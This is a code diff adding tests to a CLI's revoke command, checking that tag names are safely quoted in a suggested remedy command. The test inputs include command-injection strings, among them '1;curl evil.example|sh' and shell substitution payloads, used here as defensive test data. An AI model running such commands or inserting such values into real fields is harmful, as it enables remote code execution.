@@ -2,6 +2,7 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { type Publishing, startPublishing } from '../../../test/cli/publishing.ts';
 import type { Result, WorldPlan } from '../../../test/cli/world.ts';
+import { stillSigned } from './revoke.ts';
 
 const manifest = ['--digest', `sha256:${'ab'.repeat(32)}`, '--size', '739'];
 const codes = (text: string) => text.match(/\[[A-Z_]+\]/g);
@@ -157,4 +158,29 @@ describe('--dry-run', { timeout: 60_000 }, () => {
     const { status, stderr } = await desk.run(['revoke', `${app}:1`, '--dry-run', '--stage']);
     expect({ status, codes: codes(stderr) }).toEqual({ status: 2, codes: ['[USAGE]'] });
   });
+});
+
+describe('a tag that can still be pulled', () => {
+  const failureFor = (tag: string) =>
+    stillSigned({
+      gun: 'registry.test/app',
+      tags: [{ tag, removedFrom: [], stillSignedBy: ['targets'], outcome: 'still-signed' }],
+      uploaded: [],
+      versions: new Map(),
+    });
+
+  it('is named in the command that takes it out', () => {
+    expect(failureFor('v1.2_x-3')?.remedy).toContain(
+      'paraph revoke registry.test/app:v1.2_x-3 --role targets',
+    );
+  });
+
+  it.each(['1;curl evil.example|sh', '1 $(evil)', '1`evil`', '-evil', '1\nevil', "1' evil"])(
+    'is not, where its name is no tag, and could be a command: %j',
+    (tag) => {
+      expect(failureFor(tag)?.remedy).toContain('registry.test/app:TAG --role targets');
+      expect(failureFor(tag)?.remedy).not.toContain('evil');
+      expect(failureFor(tag)?.message).not.toContain('\n');
+    },
+  );
 });
